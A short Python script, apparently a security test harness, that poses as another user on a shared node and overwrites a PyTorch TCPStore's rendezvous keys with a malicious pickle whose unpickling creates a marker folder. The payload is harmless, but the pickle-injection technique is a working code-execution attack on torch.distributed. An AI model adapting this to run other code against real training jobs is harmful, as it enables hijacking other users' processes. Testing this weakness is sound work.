"""Another user of the node, who has found a port of a job: writes a hostile pickle under every key of its store.

Comes in: PORT MARKER. Imports torch as whoever starts it, and then becomes user 65534, who owns nothing. Goes out: the
keys that it found, as JSON. MARKER is a folder that exists afterwards if a victim unpickled what was written.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import sys
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined] # torch marks no exports

NOBODY = 65534


class _Exploit:
    """Unpickling this makes a folder."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.marker,)


def main() -> None:
    """Attack, as long as the store answers."""
    port, marker = int(sys.argv[1]), sys.argv[2]
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
    keys = store.list_keys()
    payload = base64.b64encode(pickle.dumps(_Exploit(marker))).decode()
    for key in keys:
        if "torch.rendezvous" in key:  # list_keys shows them with the prefix of the store that wrote them
            with contextlib.suppress(RuntimeError):
                store.set(key, payload)
    sys.stdout.write(json.dumps(keys))


if __name__ == "__main__":
    main()
